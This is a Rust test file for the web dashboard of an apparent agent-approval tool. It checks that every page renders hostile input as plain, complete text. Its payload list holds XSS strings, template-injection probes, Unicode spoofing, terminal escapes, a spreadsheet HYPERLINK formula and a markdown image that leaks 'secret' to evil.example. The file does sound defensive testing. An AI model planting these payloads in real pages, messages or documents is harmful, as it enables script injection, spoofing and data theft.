//! SRV-007, SRV-008, SRV-009, APR-030, APR-032, APR-033: every payload in every field of every page
//! stays text, whole, and no two values look alike.

use crate::dom::{active, all, original, parse};
use crate::samples::{self, json};
use fence::approvals::*;
use fence::engine::json::{Builder, Json};
use fence::http::dashboard::answer::{Answering, Step};
use fence::http::dashboard::edit::{Form, Written};
use fence::http::dashboard::history::{DecisionPage, HistoryView, LogLine, LogView};
use fence::http::dashboard::insight::{Insight, RuleFigures};
use fence::http::dashboard::layout::{Frame, Notice, Viewer};
use fence::http::dashboard::policy::{FailedReload, PoliciesView, PolicyView, SourceView};
use fence::http::dashboard::queue::{Filter, QueueView};
use fence::http::dashboard::request::{RequestPage, Stale};
use fence::http::dashboard::standing::Kept;
use fence::http::dashboard::{history, insight, policy, queue, request, sign_in, standing};
use maud::Markup;

/// What might become more than text, or less.
fn payloads() -> Vec<String> {
    let mut payloads: Vec<String> = [
        "<img src=x onerror=alert(1)>",
        "</script><script>alert(1)</script>\u{2028}",
        "</textarea><script>alert(1)</script>",
        "</title></style></option></select><svg onload=alert(1)>",
        "\" onmouseover=\"alert(1)\" x='",
        "javascript:alert(1)",
        "&lt;b&gt; &amp;#39; &#x41; &nbsp;",
        "<!-- --><![CDATA[x]]>",
        "{{7*7}} ${7*7} <%= 1 %>",
        "\u{202e}gpj.exe\u{2066}x\u{2069}",
        "a\u{200b}b\u{feff}c\u{e0041}\u{3164}d",
        "\u{1b}[2K\u{1b}[1A safe \u{1b}]8;;https://evil.example\u{7}click\u{1b}]8;;\u{7}",
        "\u{27e6}U+202E\u{27e7}",
        "=HYPERLINK(\"https://evil.example\")",
        "![x](https://evil.example/?q=secret) <!channel> <https://evil.example|ok>",
        "line one\n\nline three\r\nand\ttab",
        "\n leading break, trailing blank ",
        "p\u{430}ypal@example.com",
        "\u{0}\u{7f}\u{85}",
    ]
    .map(str::to_owned)
    .to_vec();
    payloads.push(format!("<b>{}</b>\u{202e}", "x".repeat(100_000)));
    payloads
}

fn object(key: &str, text: &str) -> Json {
    let mut json = Builder::new();
    json.begin_object();
    json.key(key);
    json.begin_list();
    json.text(text);
    json.begin_object();
    json.key(text);
    json.text(text);
    json.end_object();
    json.end_list();
    json.end_object();
    json.finish().unwrap()
}

fn request_of(p: &str) -> RequestView {
    let (s, o) = (|| p.to_owned(), || Some(p.to_owned()));
    let at = || "2026-03-23T10:00:00Z".to_owned();
    RequestView {
        id: "r_1".into(),
        version: 2,
        state: "pending",
        decision: "d".into(),
        digest: s(),
        policy_digest: s(),
        tool: s(),
        args: object("a", p),
        agent: o(),
        parents: vec![s()],
        user: o(),
        session: o(),
        context: Some(object("c", p)),
        recipients: Some(1),
        rules: vec![RuleView {
            policy: s(),
            rule: s(),
            line: 1,
            because: o(),
            instead: o(),
            source: o(),
        }],
        because: o(),
        instead: o(),
        nearest: o(),
        opened_at: s(),
        expires_at: s(),
        use_by: o(),
        ended_at: o(),
        needs: vec![NeedView {
            policy: s(),
            rule: s(),
            count: 2,
            of: o(),
            members: vec![s(), "z".into()],
            given: vec!["z".into()],
            missing: 1,
            escalation_at: o(),
        }],
        votes: vec![VoteView {
            by: s(),
            on_behalf_of: o(),
            at: at(),
            note: o(),
            break_glass: false,
        }],
        outcome: Some(OutcomeView { state: "denied", by: o(), reason: o(), at: at() }),
        may_edit: vec![MayEditView { field: "args.a".into(), bound: s(), words: s() }],
        edit: Some(EditView {
            by: o(),
            at: at(),
            changes: vec![ChangeView {
                field: s(),
                from: Some(object("x", p)),
                to: Some(json("[1]")),
            }],
        }),
        preview: Some(PreviewView { value: object("p", p), digest: s(), at: at(), stale: true }),
        preview_required: true,
        offers: vec![OfferView { offer: s(), covers: s() }],
        claim: o(),
        history: vec![EventView {
            at: at(),
            kind: s(),
            version: 1,
            by: o(),
            on_behalf_of: o(),
            note: o(),
            via: o(),
        }],
    }
}

fn summary_of(p: &str) -> RequestSummary {
    let (s, o) = (|| p.to_owned(), || Some(p.to_owned()));
    RequestSummary {
        id: "r_1".into(),
        state: "approved",
        tool: s(),
        agent: o(),
        user: o(),
        session: o(),
        policy: s(),
        rule: s(),
        because: o(),
        opened_at: s(),
        expires_at: s(),
        ended_at: o(),
        ended_by: o(),
        ..samples::summary(1)
    }
}

fn frame_of(p: &str) -> Frame {
    let viewer = Viewer {
        person: p.into(),
        name: Some(p.into()),
        csrf: p.into(),
        ..samples::frame().viewer.unwrap()
    };
    Frame {
        viewer: Some(viewer),
        path: format!("/{p}"),
        notice: Some(Notice { failed: true, text: p.into() }),
        halts: 1,
        ..samples::frame()
    }
}

/// The long one is as long as it needs to be to be folded: there are hundreds of fields.
fn shortened(payload: &str) -> String {
    payload.chars().take(2_000).collect()
}

/// Every page, with the payload in every field.
fn pages(p: &str) -> Vec<(String, Markup)> {
    let (s, o) = (|| p.to_owned(), || Some(p.to_owned()));
    let frame = frame_of(p);
    let filter = Filter { tool: s(), agent: s(), rule: s(), text: s() };
    let mut pages = Vec::new();
    let mut put = |name: &str, page: Markup| pages.push((name.to_owned(), page));
    for step in [Step::Choose, Step::Refuse, Step::Approve, Step::Edit] {
        let written = Written { field: "args.a".into(), form: Form::Text, text: s(), error: o() };
        let changes = || vec![ChangeView { field: s(), from: Some(object("x", p)), to: None }];
        let answering = Answering {
            step,
            note: s(),
            fields: vec![written],
            reviewed: changes(),
            offer: s(),
            on_behalf_of: s(),
            break_glass: true,
            error: o(),
        };
        let page = RequestPage {
            view: request_of(p),
            answering,
            stale: Some(Stale { seen: 1, changes: changes() }),
            delegated_by: vec![s()],
        };
        put(&format!("request {step:?}"), request::request(&frame, &page));
    }
    let list = || vec![summary_of(p)];
    put(
        "queue",
        queue::queue(
            &frame,
            &QueueView {
                items: list(),
                total_open: 1,
                next: Some(1),
                approved: list(),
                filter: filter.clone(),
            },
        ),
    );
    put(
        "history",
        history::history(
            &frame,
            &HistoryView { items: list(), next: Some(1), filter: filter.clone() },
        ),
    );
    let line = || LogLine {
        id: "d".into(),
        seq: 1,
        at: s(),
        decision: s(),
        tool: s(),
        agent: o(),
        session: o(),
        policy: o(),
        rule: o(),
    };
    put(
        "decisions",
        history::decisions(
            &frame,
            &LogView {
                items: vec![line()],
                next: Some(1),
                filter,
                decision: "deny".into(),
                since: s(),
                until: s(),
                error: o(),
                searched: Some(1),
            },
        ),
    );
    put(
        "decision",
        history::decision(
            &frame,
            &DecisionPage {
                line: line(),
                record: object("r", p),
                leaf: s(),
                request: Some("r_1".into()),
            },
        ),
    );
    let source = || SourceView { name: s(), text: format!("# {p}\n\"{p}\"\nallow {p}") };
    let policies = PoliciesView {
        policies: vec![PolicyView {
            name: s(),
            digest: s(),
            rules: 1,
            default: s(),
            sources: vec![source(), source()],
        }],
        digest: s(),
        loaded_at: s(),
        failed: Some(FailedReload { at: s(), diagnostics: s() }),
    };
    put("policies", policy::policies(&frame, &policies));
    put("policy", policy::policy(&frame, &policies, &policies.policies[0]));
    put(
        "insight",
        insight::insight(
            &frame,
            &Insight {
                days: vec![s()],
                rules: vec![RuleFigures {
                    rule: s(),
                    per_day: vec![1],
                    answered: 10,
                    approved: 10,
                    median: Some(1),
                    p90: Some(2),
                    hasty: 1,
                    expired: 0,
                }],
                ..Insight::default()
            },
        ),
    );
    let kept = Kept {
        fields: vec![("name".into(), s()), ("reason".into(), s()), ("from".into(), s())],
        error: o(),
    };
    put(
        "grants",
        standing::grants(
            &frame,
            &[GrantView {
                policy_digest: s(),
                id: s(),
                by: vec![s()],
                offer: s(),
                user: o(),
                rules: Vec::new(),
                decision: s(),
                given_at: s(),
                until: o(),
                left: Some(1),
                used: 1,
                tool: s(),
                agent: o(),
                session: o(),
                covers: s(),
                ended_at: None,
                request: "r_1".into(),
            }],
            &kept,
        ),
    );
    put(
        "halts",
        standing::halts(
            &frame,
            &[HaltView { scope: s(), by: s(), reason: s(), since: s() }],
            &kept,
        ),
    );
    put(
        "delegations",
        standing::delegations(
            &frame,
            &[DelegationView { id: s(), from_person: s(), to_person: s(), from: s(), until: s() }],
            &[s()],
            &kept,
        ),
    );
    put("sign in", sign_in::sign_in(&frame, Some(p)));
    put("message", sign_in::message(&frame, p, p));
    pages
}

#[test]
fn no_payload_becomes_more_than_text_in_any_field_of_any_page() {
    let plain: Vec<_> =
        pages("plain").into_iter().map(|(name, page)| (name, active(&parse(&page)))).collect();
    assert!(
        plain.iter().all(|(_, active)| active.len() > 10),
        "a page without elements proves nothing"
    );
    for payload in payloads() {
        for ((name, page), (_, expected)) in pages(&shortened(&payload)).into_iter().zip(&plain) {
            let found = active(&parse(&page));
            assert_eq!(
                &found,
                expected,
                "{name} with {:?}",
                &payload[..payload.len().min(80)].escape_debug()
            );
        }
    }
}

#[test]
fn everything_of_a_call_is_on_its_page() {
    for payload in payloads() {
        let page = request::request(&samples::frame(), &RequestPage::new(request_of(&payload)));
        let page = parse(&page);
        for (what, selector) in [
            ("an argument", "dl.args > .field > dd li .text:not(.head)"),
            ("a key", "dl.args dl.obj dt"),
            ("the tool", "h1"),
            ("the claim", ".claim .text:not(.head)"),
            ("the reason of the end", ".outcome .text:not(.head)"),
            ("a note", ".timeline .text:not(.head)"),
        ] {
            let texts: Vec<String> = all(&page, selector).into_iter().map(original).collect();
            let whole = |text: &String| text.contains(&payload);
            assert!(
                texts.iter().any(whole),
                "{what} lost part of {:?}",
                &payload[..payload.len().min(80)]
            );
        }
    }
}

#[test]
fn what_was_written_into_a_box_is_in_it_again() {
    for payload in payloads() {
        // A parser drops NUL and turns a lone carriage return into a break, whoever wrote them.
        if payload.contains(['\0', '\r']) {
            continue;
        }
        for (name, page) in pages(&shortened(&payload)).into_iter().take(4).skip(1) {
            let page = parse(&page);
            let texts: Vec<String> =
                all(&page, "textarea").iter().map(|area| area.text().collect()).collect();
            assert!(texts.contains(&shortened(&payload)), "{name}: {texts:?}");
        }
    }
}
